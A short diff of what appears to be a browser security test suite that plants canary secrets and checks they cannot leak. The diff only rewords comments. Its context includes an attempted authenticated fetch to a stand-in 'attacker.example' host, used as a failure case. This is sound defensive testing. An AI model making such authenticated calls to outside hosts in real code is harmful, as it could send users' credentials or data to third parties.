@@ -130,7 +130,7 @@ const detect = once(async () => {
   const planted = Object.entries(PLANTS).map(([name, plant]) => ({ plant, secret: canary(name) }))
   for (const { plant, secret } of planted) {
     await page.evaluate(plant, secret.value)
-    // The next one must not replace it.
+    // The next planted value must not replace this one.
     await page.evaluate((kind) => void (globalThis[`kept ${kind}`] = globalThis.keep), secret.kind)
   }
   const secrets = [...planted.map(({ secret }) => secret), canary('absent')]
@@ -196,7 +196,7 @@ async function assertClean(tabs, step, of = app) {
   }
 }
 
-/** Causes failures, and stores everything that the page can read of them. Runs in the page. */
+/** Causes failures, and stores everything that the page can read of them. This function runs in the page. */
 async function fail(api) {
   const attempts = [
     () => auth.fetch('https://attacker.example/'),
@@ -229,7 +229,7 @@ async function fail(api) {
   return errors.length
 }
 
-/** Uses everything that a page can use. Runs in the page. */
+/** Uses everything that a page can use. This function runs in the page. */
 async function use(api) {
   globalThis.kept ??= []
   const read = async (response) => kept.push(response, [...response.headers], await response.clone().text())
